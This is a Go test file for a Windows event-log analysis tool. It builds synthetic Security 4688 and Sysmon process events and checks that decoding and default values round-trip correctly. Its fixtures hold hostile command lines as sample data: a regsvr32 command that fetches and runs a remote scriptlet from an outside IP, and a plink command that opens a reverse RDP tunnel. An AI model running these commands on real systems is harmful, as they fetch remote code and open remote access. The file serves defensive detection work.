package synth

import (
	"strings"
	"testing"
	"time"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
)

// process builds an event from field name/value pairs.
func process(t time.Time, computer string, eventID uint32, version uint8, recordID uint64, kv ...string) event.Process {
	p := event.Process{Timestamp: t, Computer: computer, EventID: eventID, Version: version, EventRecordID: recordID}
	p.Channel, p.Provider = event.SecurityChannel, event.SecurityProvider
	if eventID == event.SysmonProcessCreate {
		p.Channel, p.Provider = event.SysmonChannel, event.SysmonProvider
	}
	for i := 0; i+1 < len(kv); i += 2 {
		f, ok := event.Lookup(kv[i])
		if !ok || !p.Set(f, kv[i+1]) {
			panic("bad field " + kv[i])
		}
	}
	return p
}

// layouts are process events in every layout the corpus has, as the
// timeline prints them.
func layouts() []event.Process {
	t0 := time.Date(2024, 3, 12, 9, 14, 3, 251811400, time.UTC)
	const host = "WS01.corp.example.com"
	return []event.Process{
		process(t0, host, 4688, 2, 1001,
			"UserSid", "S-1-5-21-1004336348-1177238915-682003330-1104", "User", `CORP\alice`, "LogonId", "0x24f5e9",
			"ProcessId", "5728", "Image", `C:\Windows\System32\regsvr32.exe`, "TokenElevationType", "%%1938",
			"ParentProcessId", "13468", "CommandLine", `regsvr32.exe /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll`,
			"TargetUserSid", "S-1-0-0", "TargetUser", "-", "TargetLogonId", "0x0",
			"ParentImage", `C:\Windows\explorer.exe`, "MandatoryLabel", "S-1-16-8192", "IntegrityLevel", "Medium"),
		// Early Windows 10: no ParentProcessName nor MandatoryLabel.
		process(t0.Add(time.Second), host, 4688, 2, 1002,
			"UserSid", "S-1-5-18", "User", `CORP\WS01$`, "LogonId", "0x3e7", "ProcessId", "4424",
			"Image", `C:\Windows\System32\svchost.exe`, "TokenElevationType", "%%1936", "ParentProcessId", "640",
			"CommandLine", `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
			"TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104", "TargetUser", `CORP\alice`, "TargetLogonId", "0x24f5e9"),
		// Windows 7: version 1.
		process(t0.Add(2*time.Second), "IE10Win7", 4688, 1, 1003,
			"UserSid", "S-1-5-18", "User", `WORKGROUP\IE10WIN7$`, "LogonId", "0x3e7", "ProcessId", "3744",
			"Image", `C:\Windows\duKhLYUX.exe`, "TokenElevationType", "%%1936", "ParentProcessId", "488",
			"CommandLine", `C:\Windows\duKhLYUX.exe`),
		// Sysmon 8: 21 values.
		process(t0.Add(3*time.Second), host, 1, 5, 2001,
			"RuleName", "", "UtcTime", "2024-03-12 09:14:06.251", "ProcessGuid", "{365ABB72-DFAD-5C67-0000-0010E0811500}",
			"ProcessId", "2312", "Image", `C:\Users\alice\Desktop\plink.exe`, "FileVersion", "Release 0.70",
			"Description", "Command-line SSH, Telnet, and Rlogin client", "Product", "PuTTY suite", "Company", "Simon Tatham",
			"CommandLine", `plink.exe  10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l test -pw "p&w<d>"`,
			"CurrentDirectory", `C:\Users\alice\Desktop\`, "User", `CORP\alice`, "LogonGuid", "{365ABB72-D6AB-5C67-0000-002056660200}",
			"LogonId", "0x26656", "TerminalSessionId", "1", "IntegrityLevel", "High",
			"Hashes", "SHA1=7806AD24F669CD8BB9EBE16F87E90173047F8EE4", "ParentProcessGuid", "{365ABB72-D92A-5C67-0000-0010CB580900}",
			"ParentProcessId", "3904", "ParentImage", `C:\Windows\System32\cmd.exe`, "ParentCommandLine", `"C:\Windows\system32\cmd.exe" `),
		// Sysmon 13.30+: OriginalFileName and ParentUser; non-ASCII text.
		process(t0.Add(4*time.Second), host, 1, 5, 2002,
			"RuleName", "-", "UtcTime", "2024-03-12 09:14:07.251", "ProcessGuid", "{08DA6306-2A54-6211-0B01-000000001000}",
			"ProcessId", "1232", "Image", `C:\Users\jürgen\Downloads\Rechnung_März.exe`, "FileVersion", "?", "Description", "?",
			"Product", "?", "Company", "?", "OriginalFileName", "?", "CommandLine", `"C:\Users\jürgen\Downloads\Rechnung_März.exe" %%1 ✓`,
			"CurrentDirectory", `C:\Users\jürgen\Downloads\`, "User", `CORP\jürgen`, "LogonGuid", "{08DA6306-C704-6210-EF77-020000000000}",
			"LogonId", "0x277ef", "TerminalSessionId", "2", "IntegrityLevel", "Medium", "Hashes", "MD5=31EB70DC11AF05EC4D5CDA652396970C",
			"ParentProcessGuid", "{08DA6306-29D8-6211-0801-000000001000}", "ParentProcessId", "7004",
			"ParentImage", `C:\Windows\explorer.exe`, "ParentCommandLine", `C:\Windows\Explorer.EXE`, "ParentUser", `CORP\jürgen`),
	}
}

// Every layout comes back field for field, through both decoders.
func TestRoundTripLayouts(t *testing.T) {
	want := layouts()
	path, st := writeLines(t, timelineJSONL(want), Options{})
	if st.Lines != len(want) || st.Records != uint64(len(want)) || st.Noise != 0 {
		t.Fatalf("stats %+v", st)
	}
	for _, d := range decoders {
		got, records := decodeFile(t, path, d.make)
		if len(got) != len(want) || records != len(want) {
			t.Fatalf("%s: %d events in %d records, want %d", d.name, len(got), records, len(want))
		}
		for i := range want {
			for _, diff := range diffProcess(&got[i], &want[i], d.precision, 0) {
				t.Errorf("%s: event %d (%d v%d): %s", d.name, i, want[i].EventID, want[i].Version, diff)
			}
		}
	}
}

// timeline -f jsonl, then synth, then timeline again prints the same text.
func TestRoundTripTimelineText(t *testing.T) {
	want := layouts()
	text := timelineJSONL(want)
	path, _ := writeLines(t, text, Options{})
	got, _ := decodeFile(t, path, decoders[0].make)
	for i := range got {
		got[i].SourceFile = want[i].SourceFile
	}
	if again := timelineJSONL(got); again != text {
		t.Errorf("timeline output changed:\n got: %s\nwant: %s", again, text)
	}
}

// Lines that leave fields out get the documented defaults.
func TestDefaults(t *testing.T) {
	text := `{"EventID":4688,"CommandLine":"\"C:\\Tools\\x.exe\" -a"}
{"EventID":1,"Computer":"WS01.corp.example.com","User":"CORP\\alice","Image":"C:\\Windows\\System32\\cmd.exe","EventRecordID":100}
{"EventID":1,"User":"CORP\\alice","Image":"C:\\Windows\\explorer.exe","ProcessId":"0x2c4"}
{"EventID":1,"User":"CORP\\alice","Image":"C:\\Windows\\System32\\notepad.exe","ParentImage":"C:\\Windows\\explorer.exe","ParentProcessId":708}
`
	path, _ := writeLines(t, text, Options{})
	got, _ := decodeFile(t, path, decoders[0].make)
	if len(got) != 4 {
		t.Fatalf("%d events", len(got))
	}
	start := time.Date(2024, 3, 12, 9, 0, 0, 0, time.UTC)
	sec := got[0]
	checks := []struct{ name, got, want string }{
		{"4688 time", event.FormatTime(sec.Timestamp), event.FormatTime(start)},
		{"4688 computer", sec.Computer, DefaultComputer},
		{"4688 version", itoa(uint64(sec.Version)), "2"},
		{"4688 record id", itoa(sec.EventRecordID), "1"},
		{"4688 image", sec.Image, `C:\Tools\x.exe`},
		{"4688 user", sec.User, `WORKGROUP\DESKTOP-SYNTH$`},
		{"4688 user sid", sec.UserSid, "S-1-5-18"},
		{"4688 logon id", sec.LogonId, "0x3e7"},
		{"4688 parent", sec.ParentImage, `C:\Windows\System32\services.exe`},
		{"4688 integrity", sec.IntegrityLevel, "System"},
		{"4688 label", sec.MandatoryLabel, "S-1-16-16384"},
		{"4688 elevation", sec.TokenElevationType, "%%1936"},
		{"4688 target", sec.TargetUser + " " + sec.TargetUserSid + " " + sec.TargetLogonId, "- S-1-0-0 0x0"},
	}
	sys := got[1]
	checks = append(checks, []struct{ name, got, want string }{
		{"sysmon time", event.FormatTime(sys.Timestamp), event.FormatTime(start.Add(time.Second))},
		{"sysmon record id", itoa(sys.EventRecordID), "100"},
		{"sysmon version", itoa(uint64(sys.Version)), "5"},
		{"sysmon parent", sys.ParentImage, `C:\Windows\explorer.exe`},
		{"sysmon parent command line", sys.ParentCommandLine, `C:\Windows\Explorer.EXE`},
		{"sysmon parent user", sys.ParentUser, `CORP\alice`},
		{"sysmon integrity", sys.IntegrityLevel, "Medium"},
		{"sysmon original name", sys.OriginalFileName, "Cmd.Exe"},
		{"sysmon description", sys.Description, "Windows Command Processor"},
		{"sysmon session", sys.TerminalSessionId, "1"},
		{"sysmon directory", sys.CurrentDirectory, `C:\Users\alice\`},
		{"sysmon rule", sys.RuleName, "-"},
		{"sysmon utc", sys.UtcTime, "2024-03-12 09:00:01.000"},
		{"sysmon command line", sys.CommandLine, `C:\Windows\System32\cmd.exe`},
		{"next record id", itoa(got[2].EventRecordID), "101"},
		{"inherited computer", got[2].Computer, "WS01.corp.example.com"},
		// A child's ParentProcessGuid is its parent's ProcessGuid.
		{"guid consistency", got[3].ParentProcessGuid, got[2].ProcessGuid},
	}...)
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s: %q, want %q", c.name, c.got, c.want)
		}
	}
	if !strings.HasPrefix(sys.Hashes, "SHA1=") || !strings.HasPrefix(sys.ProcessGuid, "{") || sys.LogonGuid == "" {
		t.Errorf("sysmon identities: %q %q %q", sys.Hashes, sys.ProcessGuid, sys.LogonGuid)
	}
}

// A line that gives IntegrityLevel alone gets the matching label, and
// one stating version 2 without the long fields gets the short layout.
func TestSecurityLayoutChoice(t *testing.T) {
	text := `{"EventID":4688,"Image":"C:\\a.exe","IntegrityLevel":"High","User":"CORP\\bob"}
{"EventID":4688,"Version":2,"Image":"C:\\a.exe","User":"CORP\\bob"}
{"EventID":4688,"Version":1,"Image":"C:\\a.exe","User":"CORP\\bob"}
`
	path, _ := writeLines(t, text, Options{})
	got, _ := decodeFile(t, path, decoders[0].make)
	if got[0].MandatoryLabel != "S-1-16-12288" || got[0].TokenElevationType != "%%1937" || !got[0].Has.Contains(event.FieldParentImage) {
		t.Errorf("high integrity line: label %q elevation %q", got[0].MandatoryLabel, got[0].TokenElevationType)
	}
	if got[1].Has.Contains(event.FieldParentImage) || got[1].Has.Contains(event.FieldMandatoryLabel) || !got[1].Has.Contains(event.FieldTargetUser) {
		t.Errorf("stated version 2 without long fields: %+v", got[1])
	}
	if got[2].Has.Contains(event.FieldTargetUser) || !got[2].Has.Contains(event.FieldCommandLine) || got[2].Version != 1 {
		t.Errorf("version 1: %+v", got[2])
	}
}
